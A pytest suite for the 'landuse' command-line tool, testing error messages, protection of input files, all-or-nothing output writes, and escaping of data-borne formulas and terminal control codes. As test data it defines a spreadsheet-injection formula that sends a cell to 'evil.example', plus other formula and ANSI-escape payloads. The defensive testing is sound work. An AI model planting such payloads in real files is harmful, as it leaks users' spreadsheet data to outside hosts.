"""The `landuse` command as a careless or hostile user meets it (issue 14: D4, D8, D12, D17).

Every user error ends as one line `error: …` on stderr and exit status 2 (the traceback only
with -v); outputs are checked before the analysis; an output never replaces an input; a
command writing several files writes all or none; text from the data never becomes a
formula in Excel/CSV nor a control sequence on the terminal.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from contextlib import contextmanager
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
import pytest
from click.testing import CliRunner
from conftest import QD_GK, square

import landuse
from landuse.cli import main

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def run(*args: str | Path):
    return CliRunner().invoke(main, [str(a) for a in args])


def assert_one_error_line(result, text: str) -> None:
    """Exit 2, exactly one stderr line starting `error:`, containing ``text``; no traceback."""
    assert result.exit_code == 2, result.output
    lines = [line for line in result.stderr.splitlines() if not line.startswith("warning: ")]
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("error: "), result.stderr
    assert text in lines[0], lines[0]
    assert "Traceback" not in result.output


@contextmanager
def read_only(path: Path):
    """Make a folder (or file) unwritable for the block: chmod, or chattr +i for root."""
    if os.geteuid() != 0:
        mode = path.stat().st_mode
        path.chmod(0o555 if path.is_dir() else 0o444)
        try:
            yield path
        finally:
            path.chmod(mode)
        return
    if shutil.which("chattr") is None:
        pytest.skip("chattr is needed to make a folder read-only for root")
    subprocess.run(["chattr", "+i", str(path)], check=True)
    try:
        yield path
    finally:
        subprocess.run(["chattr", "-i", str(path)], check=True)


@pytest.fixture(scope="module")
def sample():
    return landuse.load_sample()


@pytest.fixture
def inputs(tmp_path, sample):
    """zones.gpkg, proposals.gpkg and a multi-layer project.gpkg (parcels + zones) in Qingdao."""
    zones = sample.zones
    parcels = sample.parcels[sample.parcels["zone_id"] == "QD01"].head(40) if "zone_id" in (
        sample.parcels.columns
    ) else sample.parcels.head(40)
    zones.to_file(tmp_path / "zones.gpkg", layer="zones")
    sample.proposals.head(20).to_file(tmp_path / "proposals.gpkg", layer="proposals")
    parcels.to_file(tmp_path / "project.gpkg", layer="parcels")
    zones.to_file(tmp_path / "project.gpkg", layer="zones")
    return tmp_path


def bank_args(folder: Path, sample) -> list[str]:
    return [
        "bank",
        str(folder / "project.gpkg"),
        "--parcels-layer",
        "parcels",
        "--zones",
        str(folder / "zones.gpkg"),
        "--as-of",
        str(sample.as_of.date()),
    ]


# --- D8: outputs never destroy inputs -------------------------------------------------------


def test_bank_output_that_is_the_parcels_input_is_refused(inputs, sample):
    before = (inputs / "project.gpkg").read_bytes()
    result = run(*bank_args(inputs, sample), "-o", inputs / "project.gpkg")
    assert_one_error_line(result, "refusing to write -o/--output")
    assert "it is the input PARCELS" in result.stderr
    assert (inputs / "project.gpkg").read_bytes() == before


def test_check_output_that_is_an_input_is_refused_however_it_is_spelled(inputs):
    before = (inputs / "zones.gpkg").read_bytes()
    (inputs / "sub").mkdir()
    other_spelling = inputs / "sub" / ".." / "zones.gpkg"
    args = ["check", inputs / "proposals.gpkg", "--zones", inputs / "zones.gpkg"]
    result = run(*args, "-o", inputs / "fine.csv", "-o", other_spelling)
    assert_one_error_line(result, "it is the input --zones")
    assert (inputs / "zones.gpkg").read_bytes() == before
    assert not (inputs / "fine.csv").exists()  # refused before anything was written
    areas = inputs / "areas.gpkg"
    shutil.copy(inputs / "zones.gpkg", areas)
    result = run(*args, "--areas", areas, "-o", areas)
    assert_one_error_line(result, "it is the input --areas")


def test_bank_writes_its_layer_into_an_existing_geopackage_and_keeps_the_others(inputs, sample):
    out = inputs / "work.gpkg"
    shutil.copy(inputs / "project.gpkg", out)  # parcels + zones, not an input of this run
    parcels_before = pyogrio.read_dataframe(out, layer="parcels")
    for _ in range(2):  # the second run replaces project_bank, it does not add a second one
        result = run(*bank_args(inputs, sample), "-o", out)
        assert result.exit_code == 0, result.output
        names = [str(n) for n in pyogrio.list_layers(out)[:, 0]]
        assert names == ["parcels", "zones", "project_bank", "layer_styles"]
    pd.testing.assert_frame_equal(pyogrio.read_dataframe(out, layer="parcels"), parcels_before)


def test_bank_refuses_to_write_into_a_bank_store(inputs, sample):
    store = inputs / "store.gpkg"
    gpd.GeoDataFrame({"x": [1]}, geometry=[square(*QD_GK)], crs=4549).to_file(
        store, layer="bank_entries"
    )
    before = store.read_bytes()
    result = run(*bank_args(inputs, sample), "-o", store)
    assert_one_error_line(result, "it is a bank store (layer bank_entries)")
    assert store.read_bytes() == before


# --- D17: several outputs, all or none ------------------------------------------------------


def test_check_with_a_failing_output_leaves_every_old_output(inputs):
    old_csv = inputs / "report.csv"
    old_csv.write_text("old report\n", encoding="utf-8")
    bad_gpkg = inputs / "report.gpkg"
    bad_gpkg.write_text("not a GeoPackage\n", encoding="utf-8")
    args = ["check", inputs / "proposals.gpkg", "--zones", inputs / "zones.gpkg"]
    result = run(*args, "-o", old_csv, "-o", bad_gpkg, "-o", inputs / "report.xlsx")
    assert_one_error_line(result, "exists but is not a GeoPackage")
    assert old_csv.read_text(encoding="utf-8") == "old report\n"
    assert bad_gpkg.read_text(encoding="utf-8") == "not a GeoPackage\n"
    assert not (inputs / "report_summary.csv").exists()
    assert not (inputs / "report.xlsx").exists()
    assert sorted(p.name for p in inputs.iterdir() if p.name.startswith(".")) == []


def test_check_writes_every_output_once_when_all_succeed(inputs):
    args = ["check", inputs / "proposals.gpkg", "--zones", inputs / "zones.gpkg"]
    outs = [inputs / "r.gpkg", inputs / "r.csv", inputs / "r.xlsx", inputs / "r.csv"]
    result = run(*args, *[x for o in outs for x in ("-o", o)])
    assert result.exit_code == 0, result.output
    for name in ("r.gpkg", "r.csv", "r_summary.csv", "r.xlsx"):
        assert result.stdout.count(f"report → {inputs / name}\n") == 1
        assert (inputs / name).stat().st_size > 0
    assert sorted(p.name for p in inputs.iterdir() if p.name.startswith(".")) == []


# --- D12: one line, exit 2; traceback only with -v ------------------------------------------


@pytest.mark.parametrize("command", ["check", "map", "validate", "bank", "demo"])
def test_read_only_output_folder_is_refused_before_the_analysis(inputs, sample, command):
    folder = inputs / "locked"
    folder.mkdir()
    args = {
        "check": ["check", inputs / "proposals.gpkg", "--zones", inputs / "zones.gpkg",
                  "-o", folder / "r.csv"],
        "map": ["map", "--zones", inputs / "zones.gpkg", "--basemap", "none",
                "-o", folder / "m.html"],
        "validate": ["validate", inputs / "zones.gpkg", "--role", "zones",
                     "-o", folder / "z.gpkg"],
        "bank": [*bank_args(inputs, sample), "-o", folder / "b.gpkg"],
        "demo": ["demo", "--out", folder],
    }[command]  # fmt: skip
    with read_only(folder):
        result = run(*args)
    assert_one_error_line(result, f"the folder {folder} is not writable")
    assert "proposals (" not in result.stdout  # the analysis did not run
    assert list(folder.iterdir()) == []


def test_validate_with_an_unknown_output_type(inputs):
    result = run("validate", inputs / "zones.gpkg", "--role", "zones", "-o", inputs / "out.txt")
    assert_one_error_line(result, "unknown output type '.txt'; give a file ending in .gpkg")


def test_map_with_zero_classes(inputs, sample):
    parcels = inputs / "parcels.gpkg"
    sample.parcels.head(20).to_file(parcels)
    result = run("map", "--parcels", parcels, "--column", "tax_wan", "-k", "0",
                 "--basemap", "none", "-o", inputs / "m.html")  # fmt: skip
    assert_one_error_line(result, "-k must be a positive number of classes; received 0")


def test_bank_store_sync_into_a_read_only_store(inputs, sample):
    candidates = inputs / "cand.gpkg"
    assert run(*bank_args(inputs, sample), "-o", candidates).exit_code == 0
    store = inputs / "store.gpkg"
    sync = ["bank-store", "sync", candidates, "--store", store, "--as-of", "2021-12-31"]
    assert run(*sync, "--by", "wang").exit_code == 0
    before = store.read_bytes()
    with read_only(store):
        result = run(*sync, "--by", "li", "--note", "again")
    assert_one_error_line(result, "")
    assert "readonly database" in result.stderr or "is read-only" in result.stderr
    assert store.read_bytes() == before


@pytest.mark.parametrize("content", [b"", b"just some text\n"])
def test_validate_on_a_file_that_is_not_a_geopackage(tmp_path, content):
    bad = tmp_path / "broken.gpkg"
    bad.write_bytes(content)
    result = run("validate", bad, "--role", "parcels")
    assert_one_error_line(result, "broken.gpkg")


def test_a_driver_error_reaching_the_cli_is_one_line(tmp_path):
    bad = tmp_path / "candidates.gpkg"
    bad.write_text("not a GeoPackage", encoding="utf-8")
    result = run("bank-store", "sync", bad, "--store", tmp_path / "s.gpkg", "--as-of", "2021-12-31")
    assert_one_error_line(result, "DataSourceError: ")


def test_truncated_dbf_and_far_future_date_are_one_line(tmp_path):
    frame = gpd.GeoDataFrame(
        {"parcel_id": [f"P{i}" for i in range(50)], "name": ["宗地"] * 50},
        geometry=[square(QD_GK[0] + 200 * i, QD_GK[1]) for i in range(50)],
        crs=4549,
    )
    frame.to_file(tmp_path / "p.shp", encoding="utf-8")
    dbf = tmp_path / "p.dbf"
    dbf.write_bytes(dbf.read_bytes()[: dbf.stat().st_size // 2])
    result = run("validate", tmp_path / "p.shp", "--role", "parcels")
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert [ln for ln in result.stderr.splitlines() if ln.startswith("error: ")]
    late = frame.head(1).assign(completion_date=["9999-12-31"])
    late.to_file(tmp_path / "late.gpkg")
    result = run("validate", tmp_path / "late.gpkg", "--role", "parcels")
    assert "Traceback" not in result.output
    assert result.exit_code == 2, result.output  # refused without --coerce
    (line,) = [ln for ln in result.stderr.splitlines() if ln.startswith("error: ")]
    assert "completion_date" in line and "9999-12-31" in line
    result = run("validate", tmp_path / "late.gpkg", "--role", "parcels", "--coerce")
    assert result.exit_code == 0, result.output  # read as missing, with a warning
    assert "warning: " in result.stderr and "completion_date" in result.stderr


def test_verbose_shows_the_traceback(inputs):
    args = ["validate", inputs / "zones.gpkg", "--role", "zones", "-o", inputs / "out.txt"]
    result = run("-v", *args)
    assert result.exit_code == 2
    assert "Traceback (most recent call last)" in result.stderr
    assert result.stderr.splitlines()[-1].startswith("error: ")


# --- D4 and terminal text -------------------------------------------------------------------


@pytest.fixture
def hostile_proposals(inputs, sample):
    frame = sample.proposals.head(3).copy()
    frame["proposal_id"] = [HYPERLINK, "=1+1", "P\x1b[2J3"]
    frame.to_file(inputs / "hostile.gpkg")
    return inputs / "hostile.gpkg"


def test_check_excel_holds_formulas_as_text(inputs, hostile_proposals):
    out = inputs / "r.xlsx"
    result = run("check", hostile_proposals, "--zones", inputs / "zones.gpkg", "-o", out)
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(out).worksheets[0]
    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row}
    for text in (HYPERLINK, "=1+1"):
        assert cells[text].data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_check_csv_guards_formulas_unless_told_not_to(inputs, hostile_proposals):
    args = ["check", hostile_proposals, "--zones", inputs / "zones.gpkg"]
    assert run(*args, "-o", inputs / "r.csv").exit_code == 0
    ids = pd.read_csv(inputs / "r.csv", encoding="utf-8-sig", dtype=str).iloc[:, 0].tolist()
    assert ids == ["'" + HYPERLINK, "'=1+1", "P\x1b[2J3"]
    assert run(*args, "-o", inputs / "raw.csv", "--no-formula-guard").exit_code == 0
    ids = pd.read_csv(inputs / "raw.csv", encoding="utf-8-sig", dtype=str).iloc[:, 0].tolist()
    assert ids == [HYPERLINK, "=1+1", "P\x1b[2J3"]


def test_supply_csv_guards_the_project_name(tmp_path):
    project = tmp_path / "p.toml"
    project.write_text(
        'discount_rate = 0.05\n[project]\nname = "=1+1"\nindustry_code = "39"\n'
        "floor_area_needed_m2 = 9000\ninvestment_wan = 4000\nexpected_tax_wan = 300\n"
        'land_grade = "三级"\n',
        encoding="utf-8",
    )
    assert run("supply", project, "--option", "conventional", "-o", tmp_path / "s.csv").exit_code == 0
    table = pd.read_csv(tmp_path / "s.csv", encoding="utf-8-sig", dtype=str)
    assert set(table["项目名称"]) == {"'=1+1"}
    assert run("supply", project, "--option", "conventional", "-o", tmp_path / "r.csv",
               "--no-formula-guard").exit_code == 0  # fmt: skip
    assert set(pd.read_csv(tmp_path / "r.csv", encoding="utf-8-sig", dtype=str)["项目名称"]) == {
        "=1+1"
    }


def test_terminal_output_shows_control_characters_as_escapes(tmp_path):
    stats = landuse.load_sample().zone_stats
    stats = stats.assign(zone_id=stats["zone_id"].replace({"QD01": "QD\x1b[2J01"}))
    stats.to_csv(tmp_path / "stats.csv", index=False, encoding="utf-8")
    result = run("assess", tmp_path / "stats.csv", "--year", "2021", "-o", tmp_path / "a.xlsx")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output
    assert "QD\\x1b[2J01" in result.stdout


def test_zonal_csv_guards_the_parcel_ids(tmp_path):
    import numpy as np
    import rasterio
    from affine import Affine

    x0, y0 = QD_GK
    with rasterio.open(
        tmp_path / "r.tif", "w", driver="GTiff", width=10, height=10, count=1, dtype="uint8",
        crs="EPSG:4549", transform=Affine(10.0, 0.0, x0, 0.0, -10.0, y0 + 100),
    ) as dst:  # fmt: skip
        dst.write(np.ones((1, 10, 10), dtype="uint8"))
    parcels = gpd.GeoDataFrame(
        {"parcel_id": ["=1+1", "@SUM(1)"]},
        geometry=[square(x0, y0, 50), square(x0 + 50, y0, 50)],
        crs=4549,
    )
    parcels.to_file(tmp_path / "p.gpkg")
    args = ["zonal", tmp_path / "p.gpkg", tmp_path / "r.tif", "--stats", "mean"]
    assert run(*args, "-o", tmp_path / "z.csv").exit_code == 0
    table = pd.read_csv(tmp_path / "z.csv", encoding="utf-8-sig", dtype=str)
    assert table["宗地编号"].tolist() == ["'=1+1", "'@SUM(1)"]
    assert table["平均值"].tolist() == ["1.0", "1.0"]
    assert run(*args, "-o", tmp_path / "raw.csv", "--no-formula-guard").exit_code == 0
    raw = pd.read_csv(tmp_path / "raw.csv", encoding="utf-8-sig", dtype=str)
    assert raw["宗地编号"].tolist() == ["=1+1", "@SUM(1)"]
    result = run(*args, "-o", tmp_path / "p.gpkg")
    assert_one_error_line(result, "it is the input PARCELS")
